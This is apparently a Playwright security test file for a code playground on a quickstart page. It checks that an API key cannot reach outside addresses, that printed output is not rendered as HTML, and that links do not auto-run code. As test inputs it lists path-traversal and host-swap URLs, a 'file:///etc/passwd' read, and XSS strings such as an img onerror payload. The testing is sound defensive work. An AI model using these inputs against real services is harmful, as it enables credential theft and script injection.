import { expect, type Page, test } from '@playwright/test';

// The key stays in the page, whatever the program asks the page to do with it. The rest is in sandbox-escapes.spec.ts.

const log = (page: Page) => page.getByRole('log', { name: 'Output' });

/** As if the reader had written it here before. */
async function openWith(page: Page, code: string, path = '/quickstart/'): Promise<void> {
  await page.addInitScript((text) => {
    localStorage.setItem('firstcall:code:first-call:typescript', JSON.stringify({ 'index.ts': text }));
  }, code);
  await page.goto(path);
}

const ELSEWHERE = [
  "api + '/api/credentials'",
  "api + '/api/inbox'",
  "api + '/v1/../api/credentials'",
  "api + '/v1/%2e%2e/api/credentials'",
  "api + '/v1/..%2fapi/credentials'",
  "api + '/v1//api/credentials'",
  "api + '/v10'",
  "api.replace('://', '://user@') + '/v1/me'",
  "'//example.com/v1/me'",
  "'https://example.com/v1/me'",
  "api.replace(/:\\d+$/, ':1') + '/v1/me'",
  "'data:text/plain,leak'",
  "'file:///etc/passwd'",
];

test('no address but the API’s is reached with the key', async ({ page }) => {
  const calls: string[] = [];
  page.on('request', (request) => {
    if (request.headers().authorization) calls.push(request.url());
  });
  await openWith(
    page,
    `const api = process.env.RELAY_URL;
for (const url of [${ELSEWHERE.join(', ')}]) {
  const options = { method: 'POST', headers: { Authorization: 'Bearer ' + process.env.RELAY_API_KEY } };
  try { console.log('REACHED', (await fetch(url, options)).status, url); } catch { console.log('held'); }
}
console.log('all tried');`,
  );
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(log(page)).toContainText('all tried');
  await expect(log(page)).not.toContainText('REACHED');
  expect(calls).toEqual([]);
});

test('what a program prints is text', async ({ page }) => {
  await openWith(
    page,
    `console.log('<img src=x onerror="document.title=1"><script>document.title=2</script>');\nconsole.error('<a href="javascript:1">index.ts:1</a>');`,
  );
  const title = await page.title();
  await page.getByRole('button', { name: 'Run', exact: true }).click();
  await expect(log(page)).toContainText('<img src=x');
  expect(await log(page).locator('img, script, a, iframe').count()).toBe(0);
  expect(await page.title()).toBe(title);
});

for (const link of [
  '#run',
  '?run=1',
  '?autorun',
  '#code=Y29uc29sZS5sb2coMSk',
  '?sample=first-call&language=python&run=true',
]) {
  test(`nothing runs because of the link /quickstart/${link}`, async ({ page }) => {
    const calls: string[] = [];
    page.on('request', (request) => {
      if (/\/v1\/|\/api\/credentials|_sandbox\/p/.test(request.url())) calls.push(request.url());
    });
    await openWith(page, `console.log('by itself');`, `/quickstart/${link}`);
    await page.waitForTimeout(700);
    await expect(page.locator('[data-run-state]')).toHaveText('Recorded');
    await expect(log(page)).not.toContainText('by itself');
    expect(calls).toEqual([]);
  });
}
